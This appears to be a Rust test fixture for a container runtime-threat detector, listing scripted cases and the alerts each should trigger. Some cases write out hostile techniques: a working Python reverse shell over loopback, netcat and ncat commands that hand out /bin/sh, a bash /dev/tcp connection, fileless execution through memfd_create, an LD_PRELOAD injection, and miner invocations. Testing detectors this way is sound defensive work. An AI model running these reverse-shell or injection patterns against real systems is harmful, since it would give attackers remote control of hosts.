//! Programs that should not run in a container that serves.

use crate::world::Case;

pub(crate) const CASES: &[Case] = &[
    Case {
        name: "a program gives a connection to a shell, which takes a command from it",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    os.execv("/bin/sh", ["sh"])
connection, _ = attacker.accept()
connection.sendall(b"echo $((6 * 7)); exit\n")
assert connection.recv(100) == b"42\n"
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_reverse_shell"],
    },
    Case {
        name: "a program gives a connection to a terminal, and that to a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, pty, socket
attacker = socket.create_server(("127.0.0.1", 0))
victim = os.fork()
if victim == 0:
    address = attacker.getsockname()
    attacker.close()
    connection = socket.create_connection(address)
    for descriptor in (0, 1, 2):
        os.dup2(connection.fileno(), descriptor)
    pty.spawn("/bin/sh")
    os._exit(0)
connection, _ = attacker.accept()
connection.sendall(b"exit\n")
os.waitpid(victim, 0)
PYTHON
"#,
        reports: &["picket_reverse_shell"],
    },
    Case {
        name: "shells on pipes, on Unix sockets, and on a pipe after a connection",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket, subprocess
subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
ours, theirs = socket.socketpair()
ours.sendall(b"exit\n")
subprocess.run(["sh"], stdin=theirs, stdout=theirs, check=True)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.connect(("127.0.0.1", 9))
os.dup2(udp.fileno(), 0)
subprocess.run(["sh"], input=b"true", stdout=subprocess.PIPE, check=True)
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "a web server starts a shell",
        prepare: "cp /usr/bin/timeout nginx",
        script: "./nginx 60 sh -c 'id; uname -a'",
        reports: &["picket_shell_from_web_server"],
    },
    Case {
        name: "a shell that starts a web server, which starts a program",
        prepare: "cp /usr/bin/timeout nginx",
        script: "sh -c 'exec ./nginx 60 true'",
        reports: &[],
    },
    Case {
        name: "a program that listens starts a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
server = socket.create_server(("127.0.0.1", 0))
assert os.system("true") == 0
PYTHON
"#,
        reports: &["picket_shell_from_network_service"],
    },
    Case {
        name: "a program with a UDP port of its own starts a shell",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 5353))
assert os.system("true") == 0
PYTHON
"#,
        reports: &["picket_shell_from_network_service"],
    },
    Case {
        name: "shells before a program listens, of one that listens on a Unix socket, and of a client",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
assert os.system("true") == 0
local = socket.socket(socket.AF_UNIX)
local.bind("control")
local.listen()
assert os.system("true") == 0
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.bind(("127.0.0.1", 0))
client.connect(("127.0.0.1", 9))
assert os.system("true") == 0
server = socket.create_server(("127.0.0.1", 0))
PYTHON
"#,
        reports: &[],
    },
    Case {
        name: "a miner by its name",
        prepare: "cp /usr/bin/true xmrig",
        script: "./xmrig",
        reports: &["picket_miner_executed"],
    },
    Case {
        name: "a miner by its arguments",
        prepare: "",
        script: "env true -o stratum+tcp://pool.example:3333",
        reports: &["picket_miner_executed"],
    },
    Case {
        name: "words of miners where they mean nothing",
        prepare: "echo stratum+tcp://pool.example > list; mkdir xmrig",
        script: "grep -c stratum+tcp list; ls xmrig; sh -c 'echo stratum+tcp://pool.example'",
        reports: &[],
    },
    Case {
        name: "an offensive tool",
        prepare: "cp /usr/bin/true nmap",
        script: "./nmap -sS 127.0.0.1",
        reports: &["picket_suspicious_tool"],
    },
    Case {
        name: "a tool's name as an argument",
        prepare: "echo nmap > nmap",
        script: "cat nmap; touch hydra; rm hydra",
        reports: &[],
    },
    Case {
        name: "a program in an anonymous memory file",
        prepare: "",
        script: r#"
python3 - <<'PYTHON'
import os
memory = os.memfd_create("update", 0)
with open("/usr/bin/true", "rb") as program:
    os.write(memory, program.read())
os.execve(memory, ["update"], {})
PYTHON
"#,
        reports: &["picket_fileless_execution"],
    },
    Case {
        name: "a program in shared memory",
        prepare: "",
        script: "cp /usr/bin/true /dev/shm/update; /dev/shm/update",
        reports: &["picket_fileless_execution"],
    },
    Case {
        name: "memory files and shared memory that are no programs",
        prepare: "",
        script: r#"
python3 -c 'import os; os.write(os.memfd_create("cache"), b"data")'
echo data > /dev/shm/cache
cat /dev/shm/cache
"#,
        reports: &[],
    },
    Case {
        name: "a program that arrives and is run",
        prepare: "",
        script: "cp /usr/bin/true tool; ./tool; ./tool",
        reports: &["picket_new_binary_executed"],
    },
    Case {
        name: "a program of the image, and one that arrives and is not run",
        prepare: "cp /usr/bin/true tool",
        script: "./tool; cp tool copy; mv copy other; touch data; chmod 0755 data",
        reports: &[],
    },
    Case {
        name: "a library from a folder for everyone is forced into a program",
        prepare: "",
        script: "LD_PRELOAD=/tmp/hide.so sh -c 'ls; ls'",
        reports: &["picket_preloaded_library"],
    },
    Case {
        name: "a library of the system is preloaded",
        prepare: "",
        script: "LD_PRELOAD=libm.so.6 true; TMPDIR=/tmp/LD_PRELOAD=/tmp/x true",
        reports: &[],
    },
    Case {
        name: "bash is told to connect",
        prepare: "",
        script: "bash -c ': > /dev/tcp/127.0.0.1/9' || true",
        reports: &["picket_suspicious_command"],
    },
    Case {
        name: "netcat is told to hand a shell to others",
        prepare: "cp /usr/bin/true nc; cp /usr/bin/true ncat",
        script: "./nc -lve /bin/sh 127.0.0.1 9; ./ncat --sh-exec id 127.0.0.1 9",
        reports: &["picket_suspicious_command", "picket_suspicious_command"],
    },
    Case {
        name: "netcat looks whether a port answers, and base64 text is read",
        prepare: "cp /usr/bin/true nc; cp /usr/bin/true ncat; cp /usr/bin/true socat",
        script: r#"
./nc -z -w 1 127.0.0.1 9
./ncat --verbose --source 127.0.0.1 127.0.0.1 9
./socat - TCP:127.0.0.1:9
sh -c 'echo aGVsbG8K | base64 -d | cat'
"#,
        reports: &[],
    },
];
